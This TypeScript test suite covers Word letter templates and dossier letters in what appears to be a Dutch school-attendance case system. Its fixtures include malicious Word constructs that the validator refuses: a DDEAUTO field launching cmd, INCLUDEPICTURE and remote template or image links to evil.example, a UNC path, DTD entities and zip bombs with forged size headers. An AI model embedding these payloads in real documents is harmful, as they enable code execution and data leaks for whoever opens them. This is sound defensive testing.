import { randomBytes } from 'node:crypto';
import { readFileSync } from 'node:fs';
import PizZip from 'pizzip';
import { MERGE_FIELD_NAMES } from '../../src/correspondence/letters/fields';
import { Templates } from '../../src/correspondence/letters/templates';
import { fillTemplate, readTemplate } from '../../src/correspondence/letters/word-template';
import { type NewLetter, WriteLetter } from '../../src/correspondence/letters/write-letter';
import { newId } from '../../src/platform/ids';
import { asDay } from '../../src/law/day';
import { configFile, readConfig } from '../../src/platform/config-file';
import { actor, counsellor, officer } from '../support/actors';
import { type House, openHouse } from '../support/house';

const day = asDay;
const lpa = officer();
const boa = actor({ employee: 'lpa', roles: ['leerplichtambtenaar'], municipalities: ['0114'], boa: true });

/** A Word file with this text in its one paragraph. */
function word(text: string, more: Record<string, string> = {}): Buffer {
  const zip = new PizZip(readFileSync(configFile('letters', 'uitnodiging.docx')));
  const xml = zip.file('word/document.xml')!.asText();
  zip.file(
    'word/document.xml',
    xml.replace(/<w:body>.*<w:sectPr>/s, `<w:body><w:p><w:r><w:t>${text}</w:t></w:r></w:p><w:sectPr>`),
  );
  for (const [name, content] of Object.entries(more)) zip.file(name, content);
  return zip.generate({ type: 'nodebuffer', compression: 'DEFLATE' });
}

/** So many megabytes that get some fifty times smaller in a zip, as text of Word may. */
const packsWell = (megabytes: number) =>
  Array.from({ length: megabytes }, () => randomBytes(19_000).toString('hex').padEnd(1_000_000)).join('');
const parts = (count: number) =>
  Object.fromEntries(Array.from({ length: count }, (_, i) => [`word/media/${i}.png`, 'x']));

/** The file with 1,000 bytes told as the size of this part. */
function lying(docx: Buffer, part: string): Buffer {
  const [local, central] = [docx.indexOf(part), docx.lastIndexOf(part)] as const;
  docx.writeUInt32LE(1_000, local - 30 + 22);
  docx.writeUInt32LE(1_000, central - 46 + 24);
  return docx;
}

/** A Word file with this as its body, and these relations of it. */
function made(body: string, relations = ''): Buffer {
  const zip = new PizZip(word('Beste'));
  const edit = (name: string, from: RegExp, to: (found: string) => string) =>
    zip.file(name, zip.file(name)!.asText().replace(from, to));
  edit('word/document.xml', /<w:p>.*<\/w:p>/s, () => body);
  edit('word/_rels/document.xml.rels', /<\/Relationships>/, (end) => relations + end);
  return zip.generate({ type: 'nodebuffer', compression: 'DEFLATE' });
}
const relation = (type: string, target: string, mode = 'TargetMode="External"') =>
  `<Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" ${mode}/>`;
const mark = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
const instruction = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`;
const run = (text: string) => `<w:r><w:t>${text}</w:t></w:r>`;
const complex = (code: string, result = '1') =>
  `<w:p>${mark('begin')}${code}${mark('separate')}${run(result)}${mark('end')}</w:p>`;
const simple = (code: string) => `<w:p><w:fldSimple w:instr="${code}"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>`;
const W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
const PICTURE = 'INCLUDEPICTURE &quot;http://evil.example/?q=';

const textOf = (docx: Buffer) =>
  new PizZip(docx)
    .file('word/document.xml')!
    .asText()
    .replace(/<w:br\/>/g, '\n')
    .replace(/<\/w:p>/g, '\n')
    .replace(/<[^>]+>/g, '');

describe('Word templates', () => {
  it.each([
    ['no Word file', Buffer.from('tekst'), /geen Word-bestand/],
    ['another zip', new PizZip().file('a', 'b').generate({ type: 'nodebuffer' }) as Buffer, /geen Word-bestand/],
    ['an unknown field', word('Beste {naam} en {leerling_naam}'), /\{naam\}\. Kijk in de lijst/],
    ['a brace that does not close', word('Beste {leerling_naam'), /\{ zonder \} erachter/],
    ['a brace that does not open', word('Beste leerling_naam}'), /\} zonder \{ ervoor/],
    ['a loop that does not end', word('Beste {#leerling_naam}'), /herhaling die niet eindigt/],
    ['a loop', word('{#leerling_naam}{datum}{/leerling_naam}'), /\{leerling_naam\}/],
    ['macros', word('Beste', { 'word/vbaProject.bin': 'x' }), /macro/],
    ['a zip that unpacks too far', word('Beste', { 'word/media/x.png': packsWell(21) }), /20 MB/],
    ['a zip with too much text', word('Beste', { 'word/media/x.xml': packsWell(6) }), /5 MB/],
    ['a zip that repeats itself', word('Beste', { 'word/media/x.png': ' '.repeat(1_000_000) }), /100 keer/],
    [
      'a zip that lies about it',
      lying(word('Beste', { 'word/a.xml': ' '.repeat(30_000_000) }), 'word/a.xml'),
      /100 keer/,
    ],
    ['a zip of too many parts', word('Beste', parts(496)), /meer dan 500 onderdelen/],
    ['a file that is too large', Buffer.alloc(2_000_001), /2 MB/],
  ])('are refused in Dutch where it is %s', (_, file, words) => {
    expect(() => readTemplate(file)).toThrow(words);
  });

  it.each([
    ['another template', made('<w:p/>', relation('attachedTemplate', 'https://evil.example/x.dotm')), /ander sjabloon/],
    ['a picture elsewhere', made('<w:p/>', relation('image', 'https://evil.example/x.png')), /buiten de brief/],
    ['one under another name', made('<w:p/>', relation('image', 'x', 'TargetMode="&#69;xternal"')), /buiten de brief/],
    ['a place elsewhere as a part', made('<w:p/>', relation('image', '\\\\evil\\x.png', '')), /buiten de brief/],
    ['a link without https', made('<w:p/>', relation('hyperlink', 'http://emmen.example')), /alleen met https/],
    [
      'a link with a field',
      made('<w:p/>', relation('hyperlink', 'https://e.example/{leerling_naam}')),
      /zonder velden/,
    ],
    ['the same in disguise', made('<w:p/>', relation('hyperlink', 'https://e.example/%7Bdatum%7D')), /zonder velden/],
    ['a piece of HTML', made('<w:p/>', relation('aFChunk', 'chunk.xml', '')), /ingevoegd bestand/],
    ['HTML as a part', word('Beste', { 'word/chunk.html': '<img src="https://evil.example/">' }), /bijlage \(html\)/],
    [
      'a picture by its address',
      made('<w:p><v:imagedata xmlns:v="v" src="http://evil.example/"/></w:p>'),
      /buiten de brief/,
    ],
    ['a program', made(simple('DDEAUTO cmd &quot;/k calc&quot;')), /veldcode van Word .*\(DDEAUTO\)/],
    ['a picture by a code', made(complex(instruction(`${PICTURE}x&quot;`))), /INCLUDEPICTURE/],
    ['a code in pieces', made(complex(instruction('INCLUDE') + instruction('PICTURE x'))), /\(INCLUDEPICTURE\)/],
    ['a code without a result', made(`<w:p>${mark('begin')}${instruction('DDE x')}${mark('end')}</w:p>`), /\(DDE\)/],
    ['a code without an end', made(`<w:p>${mark('begin')}${instruction('DDE x')}</w:p>`), /zonder einde/],
    ['a field in a code', made(complex(instruction(PICTURE) + run('{leerling_naam}'))), /veldcode/],
    ['a field in a good code', made(complex(instruction('PAGE ') + run('{leerling_naam}'))), /tekst in een veldcode/],
    ['a field in its text', made(complex(instruction('DATE \\@ &quot;{datum}&quot;'))), /veldcode/],
    ['a code in a code', made(complex(instruction('PAGE') + complex(instruction('PAGE')))), /een veld in een veldcode/],
    ['a link with more', made(complex(instruction('HYPERLINK &quot;https://e.example/&quot; \\t x'))), /HYPERLINK/],
    ['the data of a merge', made('<w:p/><w:mailMerge/>'), /samenvoegdocument/],
    ['names of its own', made(`<x:p xmlns:x="${W}"><x:fldSimple x:instr="DDEAUTO x"/></x:p>`), /DDEAUTO/],
    ['a DTD', word('Beste', { 'word/a.xml': '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>' }), /beschadigd/],
    [
      'text that Word reads otherwise',
      word('Beste', { 'word/a.xml': '<?xml version="1.0" encoding="UTF-7"?><a/>' }),
      /beschadigd/,
    ],
  ])('are refused where they hold %s', (_, file, words) => {
    expect(() => readTemplate(file)).toThrow(words);
    // nor is a letter made with one from before
    expect(() => fillTemplate(file, {})).toThrow(words);
  });

  it('may hold the codes of a page, a date and a constant link, and as much as a letter needs', () => {
    const codes = ['PAGE', ' NUMPAGES  \\* MERGEFORMAT ', 'DATE \\@ &quot;d MMMM yyyy&quot;', 'TIME', 'page'];
    for (const code of [...codes, 'HYPERLINK &quot;https://emmen.example/leerplicht&quot;']) {
      expect(readTemplate(made(complex(instruction(code), '{datum}')))).toEqual(['datum']);
      expect(readTemplate(made(simple(code)))).toEqual([]);
    }
    for (const link of ['https://emmen.example/leerplicht', 'mailto:leerplicht@emmen.example'])
      expect(readTemplate(made(run('{datum}'), relation('hyperlink', link)))).toEqual(['datum']);
    expect(readTemplate(word('{datum}', { 'word/media/x.png': packsWell(19) }))).toEqual(['datum']);
    expect(readTemplate(word('{datum}', parts(495)))).toEqual(['datum']);
    expect(readTemplate(lying(word('{datum}', { 'word/a.xml': `<a>${' '.repeat(2_000)}</a>` }), 'word/a.xml'))).toEqual(
      ['datum'],
    );
    for (const { bestand } of readConfig<{ voorbeelden: { bestand: string }[] }>('letters', 'voorbeelden.json')
      .voorbeelden)
      expect(readTemplate(readFileSync(configFile('letters', bestand))).length).toBeGreaterThan(0);
  });

  it('hold fields of the list and nothing that runs', () => {
    expect(readTemplate(word('{datum} {leerling_naam} {datum}'))).toEqual(['datum', 'leerling_naam']);
    expect(() => readTemplate(word('{constructor}'))).toThrow(/constructor/);
    expect(() => readTemplate(word('{leerling_naam.length}'))).toThrow(/bestaan niet/);
  });

  it('take values as text, never as markup or as a field', () => {
    const filled = textOf(fillTemplate(word('{toelichting}'), { toelichting: '</w:t><b>{datum}</b>\ntweede regel' }));
    expect(filled).toContain('&lt;/w:t&gt;&lt;b&gt;{datum}&lt;/b&gt;\ntweede regel');
  });
});

describe('letters of a dossier', () => {
  let house: House;
  let dossier: string;

  beforeEach(async () => {
    house = await openHouse('2026-03-09');
    await house.build.location('01AB00', { name: 'De Eik' });
    await house.build.employee('lpa', ['gemeente:0114'], {
      email: 'lpa@emmen.example',
    });
    const contact = JSON.stringify({ straat: 'Dorpsstraat', huisnummer: '1', postcode: '7811 AA', plaats: 'Emmen' });
    const pupil = await house.build.pupil('2012-05-06', {
      first_names: 'Quirijn',
      prefix: 'van',
      last_name: 'Zevenster',
      contact,
    });
    await house.build.insert('contact_person', {
      id: pupil,
      pupil_id: pupil,
      name: 'M. Zevenster',
      relation: 'moeder',
    });
    for (const on of ['2026-03-02', '2026-03-03']) await house.build.absence(pupil, on, 8.5);
    await house.judge(pupil);
    dossier = String((await house.database.read.all('SELECT id FROM dossier'))[0]!['id']);
  });
  afterEach(() => house.close());

  const get = <T>(type: new (...args: never[]) => T): T => house.module.get(type, { strict: false });
  const invitation = (more: Partial<NewLetter> = {}): NewLetter => ({
    ...{ dossierId: dossier, template: 'voorbeeld:uitnodiging', recipient: 'M. Zevenster' },
    given: { aanhef: 'Beste mevrouw', gesprek_datum: '16 maart', gesprek_tijd: '10 uur', gesprek_plaats: 'stadhuis' },
    ...more,
  });

  it('fills an example with what the file knows and what is given', async () => {
    const id = await get(WriteLetter).make(lpa, invitation());
    const text = textOf(await get(WriteLetter).open(lpa, id));
    for (const part of [
      ...[
        'M. Zevenster',
        'Dorpsstraat 1',
        '7811 AA  Emmen',
        'Datum: 9 maart 2026',
        'De Eik meldt dat Quirijn van Zevenster',
      ],
      ...['17 uur, van 2 maart 2026 tot en met 3 maart 2026', 'Dag: 16 maart', 'lpa@emmen.example'],
    ]) {
      expect(text).toContain(part);
    }
    expect(text).not.toContain('{');
    const raw = JSON.stringify(await house.database.read.all('SELECT title, recipient, content FROM letter'));
    expect(raw).not.toMatch(/Zevenster|UEsDB/);
  });

  it('points to every field that is still empty', async () => {
    await expect(
      get(WriteLetter).make(lpa, invitation({ given: { aanhef: 'Beste', onzin: 'x' } })),
    ).rejects.toMatchObject({
      fields: [
        { pointer: '/velden/onzin' },
        ...['gesprek_datum', 'gesprek_plaats', 'gesprek_tijd'].map((name) => ({ pointer: `/velden/${name}` })),
      ],
    });
    await expect(get(WriteLetter).make(lpa, invitation({ recipient: 'Iemand anders' }))).rejects.toMatchObject({
      fields: expect.arrayContaining([expect.objectContaining({ pointer: '/ontvanger' })]),
    });
  });

  it('writes to nobody who died: somebody else gets the letter', async () => {
    const died = (on: string) => house.database.work((work) => work.run('UPDATE pupil SET death_date = ?', [on]));
    const toPupil = invitation({ recipient: null });
    await died('2026-03-10');
    await get(WriteLetter).make(lpa, toPupil);
    await died('2026-03-09');
    await expect(get(WriteLetter).make(lpa, toPupil)).rejects.toMatchObject({
      fields: [{ pointer: '/ontvanger', reden: expect.stringContaining('overleden') }],
    });
    await get(WriteLetter).make(lpa, invitation());
  });

  it('registers that it was sent, once, on a day that can be', async () => {
    const id = await get(WriteLetter).make(lpa, invitation());
    const sent = (on: string) => get(WriteLetter).registerSent(lpa, id, day(on), 'post');
    await expect(sent('2026-03-08')).rejects.toMatchObject({ status: 400 });
    await expect(sent('2026-03-10')).rejects.toMatchObject({ status: 400 });
    await sent('2026-03-09');
    await expect(sent('2026-03-09')).rejects.toMatchObject({ status: 409 });
    expect(await get(WriteLetter).list(lpa, dossier)).toMatchObject([
      { title: 'Uitnodiging voor een gesprek', recipient: 'M. Zevenster', sentOn: '2026-03-09', sentBy: 'post' },
    ]);
  });

  it('uses the own templates of the municipality, the latest of a name, and nobody else’s', async () => {
    const emmen = { owner: { kind: 'gemeente', code: '0114' }, name: 'Eigen brief', room: 'avg' } as const;
    await get(Templates).keep(lpa, { ...emmen, file: word('Oud {datum}') });
    const id = await get(Templates).keep(lpa, { ...emmen, file: word('Nieuw {datum}') });
    await expect(get(Templates).keep(officer('x', '0363'), { ...emmen, file: word('{datum}') })).rejects.toMatchObject({
      status: 403,
    });
    const own = (await get(WriteLetter).choices(lpa, dossier)).filter((one) => !one.id.startsWith('voorbeeld:'));
    expect(own).toEqual([{ id, name: 'Eigen brief', room: 'avg', fields: ['datum'] }]);
    const letter = await get(WriteLetter).make(lpa, invitation({ template: id, given: {} }));
    expect(textOf(await get(WriteLetter).open(lpa, letter))).toContain('Nieuw 9 maart 2026');
    await get(Templates).retire(lpa, emmen.owner, 'Eigen brief');
    await expect(get(WriteLetter).make(lpa, invitation({ template: id }))).rejects.toMatchObject({ status: 404 });
    // a letter made with it stays
    expect(textOf(await get(WriteLetter).open(lpa, letter))).toContain('Nieuw');
  });

  it('keeps letters of the Wpg part for who is boa', async () => {
    const owner = { kind: 'gemeente', code: '0114' } as const;
    const id = await get(Templates).keep(lpa, { owner, name: 'Verhoor', room: 'wpg', file: word('Verhoor {datum}') });
    expect((await get(WriteLetter).choices(lpa, dossier)).some((one) => one.id === id)).toBe(false);
    await expect(get(WriteLetter).make(lpa, invitation({ template: id, given: {} }))).rejects.toMatchObject({
      status: 403,
    });
    const letter = await get(WriteLetter).make(boa, invitation({ template: id, given: {} }));
    expect(await get(WriteLetter).list(lpa, dossier)).toEqual([]);
    await expect(get(WriteLetter).open(lpa, letter)).rejects.toMatchObject({ status: 403 });
    await expect(get(WriteLetter).registerSent(lpa, letter, day('2026-03-09'), 'post')).rejects.toMatchObject({
      status: 403,
    });
    expect(await get(WriteLetter).list(boa, dossier)).toMatchObject([{ room: 'wpg', title: 'Verhoor' }]);
  });

  it('is not there for another municipality or a counsellor', async () => {
    const letter = await get(WriteLetter).make(lpa, invitation());
    for (const other of [officer('x', '0363'), counsellor()]) {
      await expect(get(WriteLetter).open(other, letter)).rejects.toMatchObject({ status: 404 });
      await expect(get(WriteLetter).list(other, dossier)).rejects.toMatchObject({ status: 404 });
      await expect(get(WriteLetter).make(other, invitation())).rejects.toMatchObject({ status: 404 });
    }
  });

  it('comes with four examples that use known fields only, and lists every field with its meaning', async () => {
    const examples = (await get(Templates).list(house.database.read, null, ['avg'])).map((one) => one.name);
    expect(examples).toEqual([
      ...['Uitnodiging voor een gesprek', 'Waarschuwing', 'Besluit over een vrijstelling', 'Bericht van overdracht'],
    ]);
    expect(
      get(Templates)
        .fields()
        .map((one) => one.name),
    ).toEqual(MERGE_FIELD_NAMES);
  });

  it('draws up a proces-verbaal from what the dossier says, for who is boa, to be read over and changed', async () => {
    const pupil = await house.build.pupil('2011-05-06', { first_names: 'Quirijn', last_name: 'Zevenster' });
    for (const on of ['2026-03-02', '2026-03-03']) await house.build.absence(pupil, on, 8);
    await house.judge(pupil);
    const sql = 'SELECT id FROM dossier WHERE pupil_id = ?';
    const id = (await house.database.read.get<{ id: string }>(sql, [pupil]))!.id;
    const item = (kind: string, room: string, state: string, details: object, more: object = {}) =>
      house.build.insert('dossier_item', {
        ...{ id: newId(), dossier_id: id, kind, room, confidential: 0, state, day: '2026-03-05', author: 'lpa' },
        ...{ details: JSON.stringify(details), version: 1, made_at: '2026-03-05T09:00:00.000Z' },
        ...{ changed_at: '2026-03-05T09:00:00.000Z', ...more },
      });
    await item('waarschuwing', 'avg', 'verzonden', { aan: 'ouders', reden: 'x' });
    await item('proces-verbaal', 'wpg', 'opgemaakt', { verdachte: 'jongere', reden: 'x', nummer: 'PV-7' });
    const talk = { soort: 'hoorgesprek', met: 'leerling', plaats: 'Stadhuis', verslag: 'Ik had er geen zin in.' };
    await item('afspraak', 'wpg', 'gehouden', talk, { starts_at: '2026-03-05T09:00:00.000Z' });
    await item('afspraak', 'wpg', 'gehouden', { ...talk, met: 'ouders', verslag: 'Wij wisten van niets.' });
    const write = house.module.get(WriteLetter, { strict: false });
    const template = (await write.choices(boa, id)).find((one) => one.room === 'wpg')!;
    const { suggestions: found, people } = await write.form(boa, id, template);
    expect(people).toEqual([]);
    expect(found).toMatchObject({
      ...{ pv_nummer: 'PV-7', verdachte_naam: 'Quirijn Zevenster', verdachte_geboortedatum: '6 mei 2011' },
      ...{ verhoor_plaats: 'Stadhuis', verklaring: 'Ik had er geen zin in.' },
    });
    expect(found.verhoor_datum).toContain('5 maart 2026');
    expect(found.feiten).toContain('16 uur of meer in vier lesweken: 2 maart 2026 tot en met 3 maart 2026, 16,00 uur');
    expect(found.eerdere_hulp).toContain('Waarschuwing, 5 maart 2026: verzonden.');
    await expect(write.form(lpa, id, template)).rejects.toMatchObject({ status: 403 });
    await expect(write.form(officer('x', '0363'), id, template)).rejects.toMatchObject({ status: 404 });
    const missing = await write
      .make(boa, { dossierId: id, template: template.id, recipient: null, given: {} })
      .catch((error: { fields: { pointer: string }[] }) => error.fields.map((one) => one.pointer));
    expect(missing).not.toContain('/velden/feiten');
    const given = Object.fromEntries(
      (missing as string[]).filter((one) => one.startsWith('/velden/')).map((one) => [one.slice(8), 'ingevuld']),
    );
    const made = await write.make(boa, {
      ...{ dossierId: id, template: template.id, recipient: null },
      given: { ...given, verklaring: 'Gelezen en verbeterd.' },
    });
    const text = textOf(await write.open(boa, made));
    expect(text).toContain('PV-7');
    expect(text).toContain('Gelezen en verbeterd.');
    expect(text).not.toContain('Wij wisten van niets.');
  });
});
